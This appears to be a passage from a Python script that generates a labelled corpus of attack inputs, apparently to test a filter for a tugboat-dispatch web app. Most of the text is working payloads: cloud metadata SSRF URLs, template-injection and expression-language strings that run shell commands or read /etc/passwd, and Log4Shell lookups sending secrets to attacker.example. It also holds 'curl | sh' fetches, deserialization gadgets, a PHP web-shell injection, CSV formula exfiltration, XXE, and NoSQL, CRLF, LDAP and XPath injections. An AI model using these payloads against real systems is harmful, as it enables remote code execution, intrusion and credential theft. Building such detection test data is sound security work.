    ("webhook-aws-metadata+urlencode", "http://169.254.169.254/latest/meta-data/iam/security-credentials/dispatch-role"),
    ("webhook-localhost+urlencode", "http://127.0.0.1:8080/actuator/heapdump"),
]
SSRF_PREFIXES = ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:8080/"]
SSRF_PAYLOADS = [("metadata-hostname-path", "hostname?vessel=SVEA"), ("actuator-env-path", "actuator/env?tug=ajax")]

# ============================================================== Code / SSTI / deserialization (80)
CODE = [
    ("note-jinja2-cycler-popen", "Handover: {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("note-jinja2-config-class", "{{ config.__class__.__init__.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("note-jinja2-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("note-jinja2-request-attr-bypass", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("note-jinja2-lipsum", "Dear {{ lipsum.__globals__['os'].popen('whoami').read() }},"),
    ("note-jinja2-set-statement", "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("template-twig-filter-system", "{{ ['id']|filter('system') }}"),
    ("template-twig-map-passthru", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("template-twig-self-env", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("template-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("template-freemarker-api", "${ \"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\", [\"id\"]).start() }"),
    ("template-velocity-runtime", "#set($r=$class.inspect(\"java.lang.Runtime\").type.getRuntime())$r.exec(\"id\")"),
    ("template-velocity-classloader", "#set($s=\"\")#set($c=$s.getClass().forName(\"java.lang.Runtime\"))$c.getRuntime().exec(\"touch /tmp/v\")"),
    ("template-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("template-smarty-system", "Tug {system('id')}"),
    ("template-smarty-php-tag", "{php}echo `id`;{/php}"),
    ("template-mako-import", "${ __import__('os').popen('id').read() }"),
    ("template-mako-block", "<% import os; x = os.popen('id').read() %>${x}"),
    ("template-erb-backtick", "Job note <%= `id` %>"),
    ("template-erb-system", "<%= system('cat /etc/passwd') %>"),
    ("template-slim-ruby", "#{ `id` }"),
    ("template-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("template-nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("template-ejs-outputfunction", "<%= process.mainModule.require('child_process').execSync('id') %>"),
    ("template-pug-code", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("template-handlebars-gadget", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("template-razor-process", "@System.Diagnostics.Process.Start(\"cmd.exe\", \"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt\")"),
    ("template-django-settings-leak", "{{ settings.SECRET_KEY }}"),
    ("template-groovy-gstring", "${\"id\".execute().text}"),
    ("template-jinjava-classloader", "{{ ''.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}"),
    ("template-pebble-runtime", "{% set cmd = 'id' %}{{ (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null).exec(cmd) }}"),
    ("el-jsp-runtime", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("el-jsp-scope-leak", "${applicationScope}"),
    ("el-jsf-deferred", "#{request.getClass().getClassLoader()}"),
    ("ognl-struts-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("ognl-struts-member-access", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('touch /tmp/o'))}"),
    ("spel-type-runtime", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("spel-processbuilder", "${new java.lang.ProcessBuilder({'sh','-c','id'}).start()}"),
    ("spel-note-prefix", "Pilot ETA #{T(java.lang.System).getenv()}"),
    ("log4shell-ldap", "${jndi:ldap://attacker.example:1389/Tug}"),
    ("log4shell-note-ua", "Tug Svea app v3.2 ${jndi:rmi://203.0.113.9:1099/x}"),
    ("log4shell-lower-obfuscation", "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://attacker.example/a}"),
    ("log4shell-default-value-obfuscation", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/b}"),
    ("log4shell-env-exfil-dns", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/x}"),
    ("log4shell-sys-exfil", "${jndi:ldap://${sys:java.version}.attacker.example/c}"),
    ("log4shell-upper-date", "${${upper:j}ndi:${date:'l'}${date:'d'}ap://attacker.example/d}"),
    ("eval-python-import", "__import__('os').system('id')"),
    ("eval-python-formula-field", "2.5 + __import__('subprocess').check_output(['id']).__len__()"),
    ("eval-node-child-process", "require('child_process').exec('curl attacker.example/n|sh')"),
    ("eval-node-process-binding", "process.mainModule.constructor._load('child_process').execSync('id').toString()"),
    ("eval-php-string-break", "'.system('id').'"),
    ("eval-php-assert", "assert(\"system('id')\")"),
    ("eval-ruby-interpolation", "#{%x(id)}"),
    ("eval-perl-backtick", "`id`; qx{cat /etc/passwd}"),
    ("prototype-pollution-json-proto", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("prototype-pollution-constructor-json", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
    ("prototype-pollution-query-brackets", "__proto__[isAdmin]=true"),
    ("prototype-pollution-query-constructor", "constructor[prototype][shell]=/proc/self/exe&constructor[prototype][argv0]=console.log(require('child_process').execSync('id').toString())//"),
    ("csv-dde-cmd", "=cmd|' /C calc'!A0"),
    ("csv-hyperlink-exfil", "=HYPERLINK(\"http://attacker.example/?d=\"&A1&B1,\"Open timesheet\")"),
    ("csv-at-sum-dde", "@SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-plus-dde", "+cmd|' /C notepad'!'A1'"),
    ("csv-minus-dde", "-2+3+cmd|' /C calc'!A0"),
    ("csv-importxml", "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\", A2), \"//a\")"),
    ("csv-webservice", "=WEBSERVICE(\"http://attacker.example/x?\"&C2)"),
    ("xxe-file-entity", "<?xml version=\"1.0\"?><!DOCTYPE job [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><job><vessel>&x;</vessel></job>"),
    ("xxe-parameter-entity-oob", "<?xml version=\"1.0\"?><!DOCTYPE tow [<!ENTITY % d SYSTEM \"http://attacker.example/evil.dtd\"> %d;]><tow>1</tow>"),
    ("xxe-ssrf-metadata", "<!DOCTYPE r [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><berth>&m;</berth>"),
    ("xinclude-file", "<fuel xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></fuel>"),
    ("xxe-svg-upload", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&h;</text></svg>"),
    ("yaml-python-apply", "!!python/object/apply:os.system [\"curl attacker.example/y | sh\"]"),
    ("yaml-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("pickle-protocol0-system", "cos\nsystem\n(S'id'\ntR."),
    ("java-xmldecoder-processbuilder", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"2\"><void index=\"0\"><string>touch</string></void><void index=\"1\"><string>/tmp/x</string></void></array><void method=\"start\"/></object></java>"),
    ("dotnet-jsonnet-objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("java-fastjson-jdbcrowset", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.example:1099/Tug\",\"autoCommit\":true}"),
    ("java-jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\", {\"dataSourceName\": \"ldap://attacker.example:1389/j\", \"autoCommit\": true}]"),
    ("node-serialize-iife", "{\"note\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("php-object-injection", "O:12:\"TowLogWriter\":2:{s:4:\"path\";s:23:\"/var/www/html/shell.php\";s:4:\"data\";s:28:\"<?php system($_GET['c']); ?>\";}"),
    ("php-phar-wrapper", "phar:///var/www/uploads/hull_photo.jpg/test.txt"),
]
CODE_PREFIXES = []
CODE_PAYLOADS = [
    ("jinja2-popen", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("log4shell", "${jndi:ldap://attacker.example/z}"),
]

# ============================================================== NoSQLi (27)
NOSQLI = [
    ("login-json-ne", "{\"$ne\": null}"),
    ("login-json-gt-empty", "{\"$gt\": \"\"}"),
    ("login-query-ne", "password[$ne]=x"),
    ("login-query-regex-prefix", "password[$regex]=^a.*"),
    ("search-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("search-where-role", "{\"$where\": \"this.role == 'admin'\"}"),
    ("search-js-string-break", "svea'; return true; var x='"),
    ("search-js-string-break-dos", "ajax'; while(true){}; var y='"),
    ("login-query-in", "role[$in][]=admin&role[$in][]=superuser"),
    ("login-query-exists", "token[$exists]=false"),
    ("login-json-or-empty", "{\"$or\": [{}, {\"login\": \"x\"}]}"),
    ("search-json-expr", "{\"$expr\": {\"$gt\": [{\"$strLenCP\": \"$password\"}, 0]}}"),
    ("search-function-js", "{\"$function\": {\"body\": \"function(){sleep(3000); return true}\", \"args\": [], \"lang\": \"js\"}}"),
    ("search-regex-dos", "{\"$regex\": \"^(a+)+$\"}"),
    ("tug-filter-json-nin", "{\"tug\": {\"$nin\": []}}"),
    ("login-json-regex-blind", "{\"login\": \"dispatch\", \"password\": {\"$regex\": \"^k\"}}"),
    ("agg-lookup-injection", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"u\"}}]"),
    ("search-where-exfil-timing", "{\"$where\": \"if (this.password[0]=='k') { sleep(3000) } return true\"}"),
    ("login-query-gt", "login=admin&password[$gt]="),
    ("where-numeric-sleep", "50; sleep(4000); return true"),
    ("berth-filter-json-type", "{\"$type\": 2}"),
    ("login-json-regex-any", "{\"login\": {\"$regex\": \".*\"}, \"password\": {\"$regex\": \".*\"}}"),
    ("login-json-nested-where", "{\"login\": {\"$where\": \"1==1\"}}"),
    ("couchdb-selector-gt-null", "{\"selector\": {\"password\": {\"$gt\": null}}}"),
    ("es-script-query-groovy", "{\"query\": {\"script\": {\"script\": \"java.lang.Math.class.forName(\\\"java.lang.Runtime\\\").getRuntime().exec(\\\"id\\\")\"}}}"),
    ("search-json-ne-urlencoded-key", "password%5B%24ne%5D=1"),
    ("search-js-or-true", "' || '1'=='1"),
]

# ============================================================== CRLF (30)
CRLF = [
    ("log-forge-fake-entry", "job 20814 done\n2024-05-04 06:51:02 INFO user=admin action=approve_invoice amount=0"),
    ("log-forge-crlf-encoded", "Svea released%0d%0a2024-05-04 07:00:00 WARN dispatch login ok user=root"),
    ("log-forge-lf-encoded", "fuel ok%0a[AUDIT] role changed to admin for ops2"),
    ("header-set-cookie", "svea%0d%0aSet-Cookie: session=attacker-fixed-123; Path=/"),
    ("header-location-redirect", "/jobs%0d%0aLocation: https://attacker.example/login"),
    ("response-splitting-full", "en%0d%0aContent-Length: 0%0d%0a%0d%0aHTTP/1.1 200 OK%0d%0aContent-Type: text/html%0d%0aContent-Length: 40%0d%0a%0d%0a<script>alert(document.cookie)</script>"),
    ("header-raw-crlf-cookie", "nl\r\nSet-Cookie: admin=1"),
    ("header-raw-xff", "Ajax\r\nX-Forwarded-For: 127.0.0.1"),
    ("mail-header-bcc", "captain@ocean-grace.example.com\r\nBcc: list@attacker.example"),
    ("mail-header-cc-encoded", "agent@shipping-agency.example.com%0d%0aCc: all@attacker.example"),
    ("mail-subject-body-inject", "Tug confirmation\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/pay\">Pay invoice</a>"),
    ("mail-lf-only-to", "Invoice 2024/1187\nTo: cfo@attacker.example"),
    ("header-unicode-node-crlf", "svea嘍嘊Set-Cookie: pwn=1"),
    ("header-utf8-bytes-crlf", "svea%E5%98%8D%E5%98%8ASet-Cookie:%20pwn=1"),
    ("header-double-encoded", "svea%250d%250aSet-Cookie:%20x=1"),
    ("header-cache-poison", "/berths%0d%0aX-Original-URL: /admin"),
    ("header-cors-inject", "lang=nl%0d%0aAccess-Control-Allow-Origin: https://attacker.example%0d%0aAccess-Control-Allow-Credentials: true"),
    ("header-xss-protection-off", "%0d%0aX-XSS-Protection: 0%0d%0a%0d%0a<svg onload=alert(1)>"),
    ("log-forge-json-line", "ok\n{\"level\":\"info\",\"user\":\"admin\",\"msg\":\"invoice approved\"}"),
    ("log-forge-ansi-escape", "line parted\u001b[2K\r2024-05-04 INFO no incidents today"),
    ("syslog-forge-cr-only", "Svea crew change\r<13>May  4 06:00:00 tugbase sshd[1]: Accepted password for root from 198.51.100.7"),
    ("smtp-command-inject", "ops@harbortugs.example.com\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nSubject: urgent\r\n\r\nwire money\r\n."),
    ("header-host-override", "x%0d%0aHost: attacker.example"),
    ("http-request-smuggle-te", "x%0d%0aTransfer-Encoding: chunked%0d%0a%0d%0a0%0d%0a%0d%0aGET /admin HTTP/1.1%0d%0aHost: localhost"),
    ("header-content-disposition", "report.csv%0d%0aContent-Disposition: attachment; filename=invoice.html"),
    ("log-forge-nel-unicode", "fuel ok\u00852024-05-04 INFO audit cleared"),
    ("log-forge-line-separator", "pilot late\u20282024-05-04 INFO admin login"),
    ("mail-reply-to", "Capt. O'Brien <obrien@ocean-grace.example.com>\nReply-To: billing@attacker.example"),
    ("header-lowercase-encoded", "vhf%0d%0aset-cookie: tug=1%0d%0a"),
    ("log-forge-tab-fields", "note\r\n2024-05-04T06:00:00Z\tINFO\tuser=ops\tevent=password_reset_ok"),
]

# ============================================================== LDAP / XPath (20)
LDAP = [
    ("ldap-crew-login-wildcard-close", "*)(uid=*))(|(uid=*"),
    ("ldap-login-and-true", "admin)(&)"),
    ("ldap-objectclass-or", "*)(|(objectClass=*)"),
    ("ldap-crew-search-attr-leak", "Ngozi*)(userPassword=*"),
    ("ldap-blind-password-prefix", "dispatch)(userPassword=a*"),
    ("ldap-null-byte-truncate", "admin)%00"),
    ("ldap-member-of-admins", "*)(memberOf=cn=admins,ou=groups,dc=harbortugs,dc=local"),
    ("ldap-encoded-paren", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("ldap-description-wildcard", "svea*)(description=*"),
    ("ldap-not-filter", "x)(!(uid=nobody)"),
    ("xpath-login-or", "' or '1'='1"),
    ("xpath-count-blind", "' or count(/*)=1 or 'a'='b"),
    ("xpath-name-enum", "x' or name(/*[1])='tugs' or 'x'='y"),
    ("xpath-union-password", "']|//user/password|//a['"),
    ("xpath-substring-blind", "' or substring(//user[login='ops']/password,1,1)='k' or 'a'='b"),
    ("xpath-string-length", "' or string-length(//user[1]/password)>8 or ''='"),
    ("xpath-numeric-or", "1 or 1=1"),
    ("xpath-doc-ssrf", "' or doc('http://attacker.example/x.xml') or '"),
    ("xpath-crew-node-all", "Ana' or //*[contains(.,'pass')] or 'a'='b"),
    ("xpath-comment-text", "')] | //comment() | //*[('"),
]


def build():
    rng = random.Random(SEED)
    rows = []  # (category, class, value, literal)
    for cat, lits in (("sqli", SQLI), ("xss", XSS), ("cmdi", CMDI), ("traversal", TRAV), ("ssrf", SSRF),
                      ("code", CODE), ("nosqli", NOSQLI), ("crlf", CRLF), ("ldap-xpath", LDAP)):
        for cls, v in lits:
            rows.append((cat, cls, v, True))
        if cat == "sqli":
            for pre in SQLI_PREFIXES:
                cls, p = rng.choice(SQLI_PAYLOADS)
                rows.append((cat, "note-prefix-" + cls, pre + p, False))
            for cls, p in SQLI_ENCODE:
                rows.append((cat, cls, quote(p, safe=""), False))
        elif cat == "xss":
            for pre in XSS_PREFIXES[:2]:
                for cls, p in XSS_PAYLOADS:
                    rows.append((cat, "note-prefix-" + cls, pre + p, False))
            for cls, p in XSS_ENCODE:
                rows.append((cat, cls, quote(p, safe=""), False))
        elif cat == "cmdi":
            for pre in CMDI_PREFIXES:
                cls, p = rng.choice(CMDI_PAYLOADS)
                rows.append((cat, "field-prefix-" + cls, pre + p, False))
            for cls, p in CMDI_ENCODE:
                rows.append((cat, cls, quote(p, safe=""), False))
        elif cat == "traversal":
            for pre in TRAV_PREFIXES:
                for cls, p in TRAV_PAYLOADS:
                    rows.append((cat, "path-prefix-" + cls, pre + p, False))
        elif cat == "ssrf":
            for pre in SSRF_PREFIXES:
                for cls, p in SSRF_PAYLOADS:
                    if (pre.startswith("http://169") and cls.startswith("metadata")) or \
                            (pre.startswith("http://127") and cls.startswith("actuator")):
                        rows.append((cat, "webhook-join-" + cls, pre + p, False))
            for cls, p in SSRF_ENCODE:
                rows.append((cat, cls, quote(p, safe=""), False))
        elif cat == "code":
            for pre in CODE_PREFIXES:
                cls, p = rng.choice(CODE_PAYLOADS)
                rows.append((cat, "note-prefix-" + cls, pre + p, False))
    out = []
    seen = set()
    for i, (cat, cls, v, lit) in enumerate(rows, 1):
        assert v and v not in seen, (cat, cls, v)
        seen.add(v)
        out.append({"id": "haga-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v})
    return out, rows


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    out, _ = build()
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for row in out:
            f.write(json.dumps(row, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
